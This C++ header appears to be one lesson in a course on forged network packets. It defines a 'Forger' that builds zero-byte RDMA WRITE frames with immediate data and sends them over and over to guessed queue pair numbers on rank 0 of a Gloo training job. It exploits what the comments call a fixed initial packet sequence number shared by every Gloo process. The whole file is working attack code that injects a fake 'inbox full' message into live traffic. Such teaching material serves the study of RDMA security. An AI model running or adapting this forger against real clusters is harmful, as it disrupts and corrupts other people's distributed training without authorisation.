// Lesson 26, the attacker: forges the first chunk of a rank. It sees no packet and is told nothing: the PSN is
// that of every Gloo process, the QPN is a guess, and a WRITE of 0 bytes needs neither an address nor an rkey.
#pragma once

#include <algorithm>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <exception>
#include <stop_token>
#include <string>
#include <thread>
#include <vector>

#include <fmt/format.h>

#include "examples/09_forged_packets/raw_sender.hpp"
#include "runlog/log.hpp"
#include "util/address.hpp"
#include "wire/encode.hpp"

namespace lesson26 {

/// Rank 0's queue pairs that are tried: this many, from the guess on.
inline constexpr std::uint32_t guesses = 4;

inline wire::Ipv6Address bytes_of(const util::Address& address) {
    wire::Ipv6Address bytes;
    std::ranges::transform(address.ipv6_bytes(), bytes.bytes.begin(),
                           [](std::byte byte) { return std::to_integer<std::uint8_t>(byte); });
    return bytes;
}

/// Sets the IP header, with TTL or hop limit 1, so that no router forwards it.
inline void set_addresses(wire::Packet& packet, const util::Address& from,
                          const util::Address& to) {
    const wire::Ipv6Address src = bytes_of(from), dst = bytes_of(to);
    if (to.is_ipv6()) {
        packet.ipv6 = wire::Ipv6{.hop_limit = 1, .src = src, .dst = dst};
        return;
    }
    packet.ipv4 = wire::Ipv4{.ttl = 1, .src = {}, .dst = {}};
    std::copy(src.bytes.end() - 4, src.bytes.end(), packet.ipv4->src.bytes.begin());
    std::copy(dst.bytes.end() - 4, dst.bytes.end(), packet.ipv4->dst.bytes.begin());
}

/// Returns the frames that seem to be the first chunk from `from` to the queue pair `qpn` at `to`: as many
/// WRITEs as the chunk has packets, of 0 bytes. The first one has immediate data: "inbox 0 is full".
inline std::vector<std::vector<std::byte>> forged_chunk(const util::Address& from,
                                                        const util::Address& to,
                                                        std::uint32_t qpn) {
    constexpr std::uint8_t write_only = 0x0a, write_only_with_immediate = 0x0b;
    constexpr std::uint32_t first_psn = 0x8b4567;  // of every Gloo process
    constexpr std::uint32_t before = 3;            // the messages about memory
    constexpr std::uint32_t packets = 4;           // 4096 B with path MTU 1024
    std::vector<std::vector<std::byte>> frames;
    for (std::uint32_t i = 0; i < packets; ++i) {
        wire::Packet packet;
        // To the broadcast address: even the MAC address of rank 0 is not needed.
        packet.ethernet = wire::Ethernet{.dst = {{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}},
                                         .src = {{0x02, 0, 0, 0, 0, 0x66}}};
        set_addresses(packet, from, to);
        packet.udp = wire::Udp{.src_port = 0xc066};
        packet.bth = wire::Bth{.opcode = i == 0 ? write_only_with_immediate : write_only,
                               .p_key = 0xffff,
                               .dest_qpn = qpn,
                               .psn = wire::Psn(first_psn + before + i)};
        frames.push_back(wire::encode(packet));
    }
    return frames;
}

/// While it exists, sends the forged chunk again and again: it cannot know when the training begins.
class Forger {
  public:
    /// Throws as lesson09::RawSender does.
    Forger(const std::string& interface, const util::Address& from, const util::Address& to,
           std::uint32_t qpn, runlog::Log& log)
        : log_(log) {
        sender_.use(interface);
        for (std::uint32_t i = 0; i < guesses; ++i)
            for (auto& frame : forged_chunk(from, to, qpn + i))
                frames_.push_back(std::move(frame));
        send_all();
        thread_ = std::jthread([this](const std::stop_token& stop) { run(stop); });
    }

  private:
    void run(const std::stop_token& stop) {
        constexpr std::chrono::milliseconds pause{2};
        std::uint64_t rounds = 1;
        try {
            for (; !stop.stop_requested(); std::this_thread::sleep_for(pause), ++rounds)
                send_all();
        } catch (const std::exception& error) {
            log_.note(error.what());
        }
        log_.note(fmt::format("the forger has sent {} packets", rounds * frames_.size()));
    }

    void send_all() {
        for (const auto& frame : frames_)
            sender_.send(frame);
    }

    runlog::Log& log_;
    lesson09::RawSender sender_;
    std::vector<std::vector<std::byte>> frames_;
    std::jthread thread_;
};

}  // namespace lesson26
